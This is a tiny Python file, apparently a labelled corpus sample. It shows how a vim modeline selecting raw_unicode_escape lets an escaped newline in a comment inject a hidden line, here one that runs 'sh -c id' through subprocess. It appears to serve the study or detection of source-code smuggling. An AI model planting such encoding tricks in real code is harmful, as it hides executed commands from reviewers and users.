# corpus: vim modeline cookie selecting raw_unicode_escape; an escaped newline in a comment injects a code line
# vim: set fileencoding=raw_unicode_escape :
def area(r):
    return 3.14159 * r * r  # circle\u000a__import__('subprocess').run(['sh', '-c', 'id'])

print(area(2))
